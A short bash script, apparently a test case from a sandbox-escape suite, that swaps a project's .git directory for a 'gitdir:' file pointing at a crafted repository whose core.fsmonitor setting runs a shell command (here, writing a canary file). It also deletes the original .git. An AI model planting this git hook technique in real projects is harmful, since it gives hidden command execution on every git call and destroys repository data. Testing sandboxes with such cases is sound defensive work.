#!/usr/bin/env bash
# replace the .git directory by a .git file ("gitdir: ...") that points to an attacker-made repository
# class: persist
. "${0%/*}/common.sh"
need CANARY_DIR
[ -e .git ] || skip "project is no git repository"
cp -r .git .sbx-evilgit2 2>/dev/null; rm -f .sbx-evilgit2/config
printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = ": > %s/pwned-gitfile; false"\n' "$CANARY_DIR" > .sbx-evilgit2/config
{ rm -rf .git || mv .git .sbx-git-gone; } 2>/dev/null; [ -e .git ] || echo "gitdir: .sbx-evilgit2" > .git
echo "PHASE1: done"
